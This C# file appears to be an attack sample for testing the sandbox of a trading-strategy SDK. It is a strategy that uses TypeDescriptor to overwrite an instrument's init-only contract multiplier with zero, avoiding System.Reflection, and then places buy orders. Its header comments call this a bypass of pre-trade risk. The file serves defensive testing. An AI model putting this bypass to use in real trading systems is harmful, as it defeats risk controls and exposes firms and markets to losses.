// Abuses: System.ComponentModel does the reflection: a property descriptor sets an init-only property.
// Harm: rewrites the shared instrument's contract multiplier, without one name of System.Reflection.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.ComponentModel;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.TypeDescriptorSetAttack;

public sealed class TypeDescriptorSetStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        Instrument instrument = Context.Instrument(bookEvent.Instrument);
        TypeDescriptor.GetProperties(instrument)[nameof(Instrument.ContractMultiplier)]!.SetValue(instrument, 0L);
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
